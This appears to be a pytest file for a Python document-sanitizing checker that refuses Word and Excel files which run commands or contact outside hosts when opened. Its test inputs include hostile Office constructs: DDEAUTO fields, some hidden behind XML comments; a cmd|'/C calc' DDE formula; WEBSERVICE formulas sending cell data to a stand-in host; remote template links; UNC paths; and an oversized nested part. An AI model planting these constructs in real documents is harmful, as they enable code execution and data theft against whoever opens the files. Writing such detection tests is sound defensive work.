"""An office file that runs something or reaches out when it is opened is no paper; one that waits for a click is."""

import zipfile
from io import BytesIO

import pytest
from docx import Document
from tests.unit.papers.forms import declared, starter, template_saying, with_parts
from tests.unit.papers.test_hostile_templates import BODY, in_body, linked

from guiju.facts.papers.apart import check_attached
from guiju.facts.papers.producing.apart import fill_in, read_content
from guiju.facts.papers.producing.content import content_of
from guiju.facts.papers.producing.filling import TemplateRefused
from guiju.facts.papers.producing.package import check_template
from guiju.facts.papers.reaching import check_office
from guiju.facts.papers.sniffing import PaperRefused, check_paper

EXTERNAL = ' TargetMode="External"'
TYPES = "[Content_Types].xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def sheet(*parts: tuple[str, str]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, text in (("xl/workbook.xml", "<workbook/>"), *parts):
            file.writestr(name, text)
    return out.getvalue()


def relations(kind: str, target: str, mode: str = "", prolog: str = "") -> str:
    return f'{prolog}<Relationships><Relationship Type="{RELATION}{kind}" Target="{target}"{mode}/></Relationships>'


DDE = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
    '<w:fldSimple w:instr="DDEAUTO c:/x y"/></w:p></w:body></w:document>'
)


def beside(name: str, text: str) -> bytes:
    """A Word file with one part more: which one is the text of the document, only the package says."""
    return with_parts(starter(), lambda parts: parts.update({name: text.encode()}))


def formula(said: str) -> bytes:
    return sheet(("xl/worksheets/sheet1.xml", f"<sheetData><row><c><f>{said}</f></c></row></sheetData>"))


@pytest.mark.parametrize(
    ("kind", "make"),
    [
        ("docx", lambda: linked("attachedTemplate", "https://example.invalid/t.dotm", EXTERNAL)),
        ("docx", lambda: linked("attachedTemplate", "https://example.invalid/t.dotm", " TargetMode='external'")),
        ("docx", lambda: linked("image", "http://example.invalid/seen.png", EXTERNAL)),
        ("docx", lambda: linked("hyperlink", "file:////example.invalid/share/x", EXTERNAL)),
        ("docx", lambda: linked("hyperlink", "\\\\example.invalid\\share", EXTERNAL)),
        ("docx", lambda: linked("oleObject", "embeddings/o.xml")),
        ("docx", lambda: linked("package", "embeddings/a.xlsx")),
        ("docx", lambda: linked("aFChunk", "x.xml")), ("docx", lambda: linked("control", "x.xml")),
        ("docx", lambda: in_body('<w:p><w:r><w:instrText>DDEAUTO c:/x "y"</w:instrText></w:r></w:p>')),
        ("docx", lambda: in_body(
            "<w:p><w:r><w:instrText>INCLUDEPIC</w:instrText><w:instrText>TURE x</w:instrText></w:r></w:p>"
        )),
        ("docx", lambda: in_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT c:/x"/></w:p>')),
        ("docx", lambda: with_parts(starter(), lambda parts: parts.update(
            {TYPES: parts[TYPES].replace(b"document.main+xml", b"document.macroEnabled.main+xml")}
        ))),
        ("docx", lambda: in_body('<w:p><w:fldSimple w:dirty="true" w:instr="DDEAUTO c:/x y"/></w:p>')),
        ("docx", lambda: in_body('<w:p><w:r><w:instrText>DDE<!-- x -->AUTO c:/x</w:instrText></w:r></w:p>')),
        ("docx", lambda: beside("evil/main.xml", DDE)), ("docx", lambda: beside("word/main.dat", DDE)),
        ("docx", lambda: beside("word/main.png", DDE)), ("docx", lambda: beside("word/content_types.xml", DDE)),
        ("docx", lambda: beside("word/fonts/font1.odttf", DDE)), ("docx", lambda: beside("word/x.dat", "program")),
        ("xlsx", lambda: formula('WEBSERVICE("http://example.invalid/"&amp;A1)')),
        ("xlsx", lambda: formula('_xlfn.IMAGE ("http://example.invalid/a.png")')),
        ("xlsx", lambda: formula("cmd|'/C calc'!A0")), ("xlsx", lambda: formula("""'a"b'!A1+cmd|'/C x'!A0&amp;"y\"""")),
        ("xlsx", lambda: formula("WEB<!-- x -->SERVICE(A1)")),
        ("xlsx", lambda: sheet(("xl/other.xml", "<a><definedName>RTD(A1,,A2)</definedName></a>"))),
        ("xlsx", lambda: sheet(("xl/link.xml", '<a><ddeLink ddeService="cmd"/></a>'))),
        ("xlsx", lambda: sheet(("xl/_rels/workbook.xml.rels", relations("externalLink", "externalLinks/e.xml")))),
        ("xlsx", lambda: sheet(("xl/_rels/workbook.xml.rels", relations("connections", "connections.xml")))),
        ("xlsx", lambda: sheet(("xl/_rels/workbook.xml.rels", relations("externalLinkPath", "file:///c", EXTERNAL)))),
        ("xlsx", lambda: sheet(("xl/drawings/_rels/d.xml.rels", relations("image", "http://x.invalid", EXTERNAL)))),
        ("xlsx", lambda: sheet(("xl/worksheets/_rels/s.xml.rels", relations(
            "oleObject", "o.xml", prolog='<!DOCTYPE a [<!ENTITY b "c">]>'
        )))),
    ],
)  # fmt: skip
def test_what_runs_or_reaches_out_is_refused_in_one_sentence(kind, make):
    data = make()
    check_paper(data, kind)
    with pytest.raises(PaperRefused) as refused:
        check_office(data)
    assert refused.value.sentence.count("。") == 1 and refused.value.remedy


def test_a_relation_in_another_coding_is_read_all_the_same():
    data = sheet(("xl/_rels/workbook.xml.rels", ""))
    text = relations("image", "http://x.invalid/a.png", EXTERNAL, '<?xml version="1.0" encoding="UTF-16"?>')
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("xl/workbook.xml", zipfile.ZipFile(BytesIO(data)).read("xl/workbook.xml"))
        file.writestr("xl/_rels/workbook.xml.rels", text.encode("utf-16"))
    with pytest.raises(PaperRefused, match="外部"):
        check_office(out.getvalue())


@pytest.mark.parametrize(
    ("kind", "make"),
    [
        ("docx", starter), ("docx", lambda: linked("hyperlink", "https://example.invalid/link", EXTERNAL)),
        ("docx", lambda: linked("hyperlink", "mailto:a@example.invalid", EXTERNAL)),
        ("docx", lambda: in_body(
            '<w:p><w:r><w:instrText>HYPERLINK "https://example.invalid/link"</w:instrText></w:r></w:p>'
        )),
        ("docx", lambda: in_body("<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>")),
        ("xlsx", lambda: sheet(("xl/printerSettings/printerSettings1.bin", "x"))),
        ("xlsx", lambda: formula('SUM(A1:A3)&amp;"甲|乙 IMAGE(1)"')), ("xlsx", lambda: formula('DISPIMG("ID_1",1)')),
        ("docx", lambda: beside("customXml/item9.xml", "<a><f>x</f></a>")),
        ("docx", lambda: beside("word/fonts/font1.odttf", "veiled")),
        ("docx", lambda: beside("_xmlsignatures/o.sigs", "")),
    ],
)  # fmt: skip
def test_an_ordinary_file_is_taken(kind, make):
    data = make()
    check_paper(data, kind)
    check_office(data)


def test_a_process_of_its_own_checks_fills_and_reads_alike():
    form_made = starter()
    check_attached(form_made, "docx")
    with pytest.raises(PaperRefused, match="外部"):
        check_attached(linked("image", "http://example.invalid/seen.png", EXTERNAL), "docx")
    assert read_content(form_made) == content_of(form_made)


def test_what_eats_a_process_is_refused_and_harms_nobody():
    """A million paragraphs within a part that is small when packed."""
    deep = with_parts(starter(), lambda parts: parts.update({BODY: b"<a>" * 400_000 + b"</a>" * 400_000}))
    with pytest.raises(PaperRefused):
        read_content(deep)
    with pytest.raises(PaperRefused):
        check_attached(deep, "docx")


def test_a_cell_over_more_columns_than_the_table_has_is_named_as_such():
    document = Document(BytesIO(starter()))
    table = document.add_table(1, 2)
    table.cell(0, 1)._tc.grid_span = 5
    out = BytesIO()
    document.save(out)
    with pytest.raises(PaperRefused, match="列数") as refused:
        content_of(out.getvalue())
    assert "合并单元格" in refused.value.remedy


def test_a_template_that_is_refused_in_the_process_of_its_own_says_why():
    with pytest.raises(TemplateRefused, match="phone"):
        fill_in(template_saying("{{ phone }}"), declared()["summons"], {})


@pytest.mark.parametrize("name", ["evil/main.xml", "word/main.png", "word/fonts/a.odttf", "word/content_types.xml"])
def test_a_template_is_looked_at_in_every_part_whatever_it_is_called(name):
    with pytest.raises(PaperRefused):
        check_template(beside(name, DDE))
    check_template(starter())


def test_the_instruction_of_a_field_in_a_template_is_read_behind_a_comment():
    hidden = "<w:p><w:r><w:instrText><!-- x -->DDEAUTO c:/x</w:instrText></w:r></w:p>"
    with pytest.raises(PaperRefused, match="域"):
        check_template(in_body(hidden))
